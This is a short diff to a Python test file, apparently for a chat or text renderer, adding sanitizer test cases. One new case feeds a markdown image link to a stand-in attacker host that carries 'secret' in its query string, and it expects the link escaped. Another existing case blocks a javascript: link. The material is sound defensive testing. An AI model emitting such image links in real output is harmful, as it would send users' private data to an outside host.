@@ -167,6 +167,11 @@ def test_text_renderer_streams_plain_text() -> None:
         ("```\n<b>\n```\n<i>", "```\n<b>\n```\n&lt;i>"),
         ("$a<b$", r"$a\lt b$"),
         ("[x](javascript:alert(1))", "[x](#blocked:alert(1))"),
+        (
+            "![pixel](https://evil.example/?q=secret) ![ref][r]",
+            r"!\[pixel](https://evil.example/?q=secret) !\[ref][r]",
+        ),
+        ("`![code](u)` and\n```\n![fenced](u)\n```\n", "`![code](u)` and\n```\n![fenced](u)\n```\n"),
         ("- list\n- **bold**\n\n| a | b |\n|---|---|", "- list\n- **bold**\n\n| a | b |\n|---|---|"),
     ],
 )
